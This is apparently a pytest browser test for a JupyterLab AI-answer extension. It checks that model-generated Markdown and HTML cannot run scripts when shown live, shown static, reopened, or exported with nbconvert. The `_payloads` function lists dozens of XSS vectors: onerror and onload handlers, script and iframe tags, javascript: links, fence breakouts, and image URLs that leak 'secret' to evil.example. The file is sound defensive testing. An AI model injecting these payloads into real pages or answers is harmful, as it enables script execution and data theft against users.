"""Hostile answers in a real JupyterLab and in nbconvert HTML: nothing a model writes runs.

Every payload, if it ever ran, would call ``qx(n)`` (or ``alert``), which the page records; the
rendered outputs are also searched for anything that could act (a handler attribute, a script,
frame, form or style element, a javascript: link, a remote image). Checked while the answers
stream (the live widgets), when they are done (the static Markdown), after saving and reloading
the notebook (its outputs are trusted then), and in the HTML nbconvert makes of the saved file,
opened in the same Chromium. Ordinary Markdown still renders (a table, code, a link, bold).

Run with ``.venv/bin/pytest -m browser tests/browser -v -s`` (screenshots are printed).
"""

from __future__ import annotations

import contextlib
import re
import subprocess
import sys
import time
from typing import Any

import pytest
from test_jupyterlab import (  # noqa: F401 - the fixtures are used by name
    JS_PANEL,
    LONG,
    Lab,
    assert_no_errors,
    cells,
    check_kernel,
    expect,
    lab,
    open_notebook,
    page,
    run_all,
    setup_cells,
    shot,
    wait_done,
)

pytestmark = pytest.mark.browser

# Runs before any page script: where an executed payload leaves its mark.
INIT = """
window.__qwenXSS = [];
window.qx = (n) => { try { window.top.__qwenXSS.push(String(n)); } catch (e) {} };
"""


def _payloads() -> tuple[list[str], list[str], list[str]]:
    """(answer Markdown payloads, reasoning payloads, -f html payloads), each calling qx(n)."""
    n = iter(range(1, 1000))
    md = [
        f"<img src=x onerror=qx({next(n)})>",
        f"<script>qx({next(n)})</script>",
        f"<svg onload=qx({next(n)})>",
        f"<details open ontoggle=qx({next(n)})>x</details>",
        f"<iframe srcdoc='<script>parent.qx({next(n)})</script>'></iframe>",
        f"<IMG SRC=x ONERROR=qx({next(n)})>",
        f"<img/src=x/onerror=qx({next(n)})>",
        f"<math><mtext><table><mglyph><style><img src=x onerror=qx({next(n)})>",
        f"<!--><img src=x onerror=qx({next(n)})>-->",
        f"<x onclick=qx({next(n)}) style=display:block;width:100px;height:20px>hover</x>",
        f'<a href="javascript:qx({next(n)})">a link</a>',
        f"[md link](javascript:qx({next(n)}))",
        f"[md link 2](&#106;avascript:qx({next(n)}))",
        (lambda k: f"[ref link][r{k}]\n\n[r{k}]: javascript:qx({k})")(next(n)),
        "![](https://evil.example/?q=secret)",
        f"$\\href{{javascript:qx({next(n)})}}{{math link}}$",
        f'```x" onmouseover="qx({next(n)})" y="\ncode\n```',
        f"- item\n  ```html\n  <img src=x onerror=qx({next(n)})>\n  ```",
        f"> ```\n> <img src=x onerror=qx({next(n)})>\n> ```",
        f"    <img src=x onerror=qx({next(n)})>",
        f"<div>\n```\n<img src=x onerror=qx({next(n)})>\n```",
        f"- a $\n  ```\n  $ <img src=x onerror=qx({next(n)})>\n  ```",
        f"\\begin{{x}}\n```\n\\end{{x}} <img src=x onerror=qx({next(n)})>\n```",
        f"$$\n```\n$$\n<img src=x onerror=qx({next(n)})>\n```",
        f"$ x `$ y\n<img src=x onerror=qx({next(n)})> `",
        f'<a title="`">` <img src=x onerror=qx({next(n)})>`',
        f"```\nx\n```~\n<img src=x onerror=qx({next(n)})>\n```",
        f"```\nunclosed <img src=x onerror=qx({next(n)})>",
    ]
    reasoning = [
        f"<img src=x onerror=qx({next(n)})>",
        f"</details><img src=x onerror=qx({next(n)})>",
        f"```\n</details><img src=x onerror=qx({next(n)})>\n```",
        f"[r link](javascript:qx({next(n)}))",
    ]
    html = [
        f"<img src=x onerror=qx({next(n)})>",
        f"<script>qx({next(n)})</script>",
        f"<svg><script>qx({next(n)})</script></svg>",
        f"<a href='javascript:qx({next(n)})'>html link</a>",
        f"<iframe srcdoc='<script>parent.qx({next(n)})</script>'></iframe>",
        f"<form><button formaction='javascript:qx({next(n)})'>b</button></form>",
        f"<p style='position:fixed;top:0;left:0'>style</p><details open ontoggle=qx({next(n)})>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<img src='https://evil.example/?q=secret'>",
    ]
    return md, reasoning, html


ORDINARY = """Ordinary Markdown still renders: **bold text**, a [safe link](https://example.com/docs),

| name | value |
|------|-------|
| alpha | 1 |

```python
def f(x):
    return x < 10
```

and math $0 < x < 1$."""

# Everything in rendered outputs that could act, as the page sees it.
JS_ACTIVE = """
(selector) => {
  const bad = [];
  const ok = /^(https?:\\/\\/|mailto:|#)/i;
  const picture = /^data:image\\/(png|jpeg|gif|webp)[;,]/i;
  const active = new Set(['script', 'iframe', 'frame', 'object', 'embed', 'form', 'style', 'link',
    'meta', 'base', 'button', 'textarea', 'select', 'svg', 'video', 'audio', 'source', 'x']);
  for (const root of document.querySelectorAll(selector)) {
    for (const e of root.querySelectorAll('*')) {
      const tag = e.tagName.toLowerCase();
      if (active.has(tag)) bad.push('<' + tag + '>');
      if (tag === 'input' && !(e.type === 'checkbox' && e.disabled)) bad.push('<input>');
      for (const a of e.attributes) {
        const name = a.name.toLowerCase(), value = a.value.trim();
        if (name.startsWith('on')) bad.push(tag + '[' + name + ']');
        if (name === 'style' && !/^(pre|span|mjx-.*)$/.test(tag)) bad.push(tag + '[style]');
        const shown = tag + '[' + name + '=' + value.slice(0, 40) + ']';
        if (name === 'href' && !ok.test(value)) bad.push(shown);
        if (name === 'src' && !picture.test(value)) bad.push(shown);
        if (['action', 'formaction', 'srcdoc', 'data', 'xlink:href'].includes(name))
          bad.push(tag + '[' + name + ']');
      }
    }
  }
  return {bad: bad, ran: window.__qwenXSS || []};
}
"""
LAB_OUTPUTS = ".jp-OutputArea-output .jp-RenderedMarkdown, .jp-OutputArea-output.jp-RenderedMarkdown, .jp-OutputArea-output .jp-RenderedHTMLCommon, .jp-OutputArea-output.jp-RenderedHTMLCommon"  # noqa: E501
JS_SAVE = f"""
async (path) => {{
  const app = window.jupyterapp;
  const w = ({JS_PANEL})(path);
  await w.context.save();
  return true;
}}
"""
JS_TRUSTED = f"""
(path) => {{
  const w = ({JS_PANEL})(path);
  if (!w) return null;
  return w.content.widgets.map((c) => c.model.type === 'code' ? c.model.trusted : null);
}}
"""


# Random mixes of payloads and Markdown structure (fences, lists, quotes, math, code spans).
PIECES = [
    *("```", "````", "~~~", "```html", "``` x`y", "```mermaid", '```x"onclick="qx(0)', "    "),
    *("  ", "- ", "1. ", "> ", "`", "``", "\\", "$", "$$", "\\\\(", "\\\\)", "\\\\[", "\\\\]"),
    *("\\begin{x}", "\\end{x}", "{", "}", "| a | b |\n|---|---|\n| ", "*", "_", "[", "]"),
    *("(", ")", "!", "&lt;", "&#60;", "<", "<!--", "-->", "<?", "?>", "<![CDATA[", "]]>"),
    *("@@0@@", "\t", "text", "x<y", "a < b", "#", "---", "==="),
]
JOINTS = ["", " ", "\n", "\n\n", "\n  ", "\n    ", "\n> ", "\n- "]


def random_mixes(count: int, seed: int) -> list[str]:
    import random

    md, reasoning, _html = _payloads()
    payloads = md + reasoning
    rng = random.Random(seed)
    docs = []
    for _ in range(count):
        parts = []
        for _ in range(rng.randint(2, 16)):
            parts.append(rng.choice(payloads if rng.random() < 0.35 else PIECES))
            parts.append(rng.choice(JOINTS))
        docs.append("".join(parts))
    return docs


# JupyterLab's own Markdown renderer (removeMath, marked, code highlighting, MathJax), trusted.
JS_RENDER_ALL = f"""
async ([path, docs]) => {{
  const w = ({JS_PANEL})(path);
  const host = document.createElement('div');
  host.id = 'qwen-fuzz';
  document.body.appendChild(host);
  for (const source of docs) {{
    const renderer = w.content.rendermime.createRenderer('text/markdown');
    host.appendChild(renderer.node);
    await renderer.renderModel({{
      data: {{'text/markdown': source}}, metadata: {{}}, trusted: true, setData() {{}}
    }});
  }}
  return host.querySelectorAll('.jp-RenderedMarkdown').length;
}}
"""


class Watch:
    """What ran (qx calls, dialogs) and what could act, gathered at every look."""

    def __init__(self, browser_page: Any) -> None:
        self.page = browser_page
        self.dialogs: list[str] = []
        self.bad: set[str] = set()
        self.ran: set[str] = set()
        browser_page.on("dialog", self._dialog)

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def look(self, where: str, selector: str = LAB_OUTPUTS) -> None:
        found = self.page.evaluate(JS_ACTIVE, selector)
        self.bad.update(f"{where}: {b}" for b in found["bad"])
        self.ran.update(f"{where}: qx({r})" for r in found["ran"])

    def hover_everything(self, selector: str = LAB_OUTPUTS) -> None:
        """Handlers that need a user: hover each rendered element once."""
        for element in self.page.locator(selector).locator("x, a, img, p").all()[:80]:
            with contextlib.suppress(Exception):  # hidden or detached: nothing to hover
                element.hover(timeout=500)

    def assert_clean(self) -> None:
        assert not self.ran, sorted(self.ran)
        assert not self.dialogs, self.dialogs
        assert not self.bad, sorted(self.bad)


def notebook_cells() -> list[str]:
    md, reasoning, html = _payloads()
    answer = "Here are the payloads:\n\n" + "\n\nNext:\n\n".join(md)
    thought = "\n\n".join(reasoning)
    html_answer = "<p>HTML answer</p>" + "".join(html) + "<p>end</p>"
    replies = [
        f"Reply(text={answer!r}, reasoning={thought!r}, chunks=120, delay=0.02)",
        f"Reply(text={html_answer!r}, reasoning={thought!r}, chunks=30, delay=0.02)",
        f"Reply(text={md[0] + ' ' + md[11]!r}, reasoning={reasoning[1]!r})",
        f"Reply(text={ORDINARY!r}, reasoning='')",
    ]
    setup = setup_cells(replies[0])
    setup[-1] += "\n" + "\n".join(
        f"magics_of(get_ipython()).emulator.queue({r})" for r in replies[1:]
    )
    return [
        *setup,
        "%%qwen --think\nRepeat the payloads.",
        "%%qwen --think -f html\nRepeat them as HTML.",
        "%%qwen --think -c hostile\nOnce more, in a chat.",
        "%qwencmd history hostile",
        "%%qwen\nShow ordinary Markdown.",
    ]


def test_no_payload_runs_live_static_reopened_or_in_nbconvert(lab: Lab, page: Any) -> None:  # noqa: F811
    page.add_init_script(INIT)
    watch = Watch(page)
    name = "hostile.ipynb"
    source = notebook_cells()
    open_notebook(lab, page, name, source)
    run_all(page, name)
    first, last = len(source) - 5, len(source) - 1

    # Live: look while the answers stream (the widgets render each piece as trusted Markdown).
    widgets = cells(page).nth(first).locator(".jp-OutputArea-output .jupyter-widgets")
    widgets.first.wait_for(state="attached", timeout=LONG)
    looks = 0
    while cells(page).nth(last).locator(".jp-InputPrompt").inner_text().strip() in ("[ ]:", "[*]:"):
        watch.look("live")
        looks += 1
        if looks == 8:
            shot(lab, page, "10-hostile-live", cells(page).nth(first))
        time.sleep(0.25)  # polling the page while it streams
    assert looks >= 4  # the live view was seen
    wait_done(cells(page).nth(last))
    check_kernel(lab, cells(page).nth(0))

    # Static: the finished outputs, hovered.
    watch.hover_everything()
    watch.look("static")
    shot(lab, page, "11-hostile-static", cells(page).nth(first))
    watch.assert_clean()
    assert_no_errors(page)

    # The same renderer on random mixes, made safe as an answer is.
    from qwen_magic.render.safe import safe_markdown

    docs = [safe_markdown(doc) for doc in random_mixes(300, seed=5)]
    assert page.evaluate(JS_RENDER_ALL, [name, docs]) == len(docs)
    time.sleep(0.5)  # image errors and toggles fire after rendering
    watch.look("random mixes", "#qwen-fuzz")
    page.evaluate("() => document.getElementById('qwen-fuzz').remove()")
    watch.assert_clean()
    answer = cells(page).nth(first).locator(".jp-OutputArea-output.jp-RenderedMarkdown")
    expect(answer).to_contain_text("<img src=x onerror=qx(1)>")  # shown as text
    expect(answer).to_contain_text("[md link](javascript:qx(")
    expect(answer.locator("a", has_text="🖼")).to_have_attribute(
        "href", "https://evil.example/?q=secret"
    )
    html_out = cells(page).nth(first + 1).locator(".jp-OutputArea-output.jp-RenderedHTMLCommon")
    expect(html_out).to_contain_text("HTML answer")
    link = html_out.locator("a", has_text="html link")
    expect(link).not_to_have_attribute("href", re.compile("."))
    ordinary = cells(page).nth(last).locator(".jp-OutputArea-output.jp-RenderedMarkdown")
    expect(ordinary.locator("strong", has_text="bold text")).to_be_visible()
    expect(ordinary.locator("a", has_text="safe link")).to_have_attribute(
        "href", "https://example.com/docs"
    )
    expect(ordinary.locator("table td", has_text="alpha")).to_be_visible()
    expect(ordinary.locator("pre code")).to_contain_text("return x < 10")
    shot(lab, page, "12-hostile-ordinary", cells(page).nth(last))

    # Reopened: save, reload the page; the outputs come back trusted.
    page.evaluate(JS_SAVE, name)
    page.reload()
    page.wait_for_function(f"(p) => !!({JS_PANEL})(p)", arg=name, timeout=LONG)
    expect(cells(page)).to_have_count(len(source))
    reopened = cells(page).nth(first).locator(".jp-OutputArea-output.jp-RenderedMarkdown")
    expect(reopened).to_contain_text("Here are the payloads")
    trusted = page.evaluate(JS_TRUSTED, name)
    assert trusted[first] is True, trusted  # so the check below means something
    watch.hover_everything()
    watch.look("reopened")
    shot(lab, page, "13-hostile-reopened", cells(page).nth(first))
    watch.assert_clean()

    # nbconvert HTML of the saved notebook, opened in the same browser.
    out = lab.root / "exported"
    subprocess.run(
        [sys.executable, "-m", "nbconvert", "--to", "html", str(lab.root / name),
         "--output-dir", str(out)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    html_path = out / "hostile.html"
    converted = page.context.new_page()
    converted.add_init_script(INIT)
    converted.route("http*://**", lambda route: route.abort())  # no CDN: offline, fail fast
    nb_watch = Watch(converted)
    converted.goto(html_path.as_uri(), wait_until="domcontentloaded")
    rendered = ".jp-OutputArea-output .jp-RenderedMarkdown, .jp-OutputArea-output.jp-RenderedMarkdown, .jp-OutputArea-output .jp-RenderedHTMLCommon, .jp-OutputArea-output.jp-RenderedHTMLCommon"  # noqa: E501
    expect(converted.locator(rendered).first).to_contain_text("Here are the payloads")
    nb_watch.hover_everything(rendered)
    time.sleep(0.5)  # let late handlers (image errors, toggles) fire before looking
    nb_watch.look("nbconvert", rendered)
    converted.screenshot(path=str(lab.shots / "14-hostile-nbconvert.png"), full_page=False)
    expect(converted.locator("table td", has_text="alpha")).to_be_visible()
    nb_watch.assert_clean()
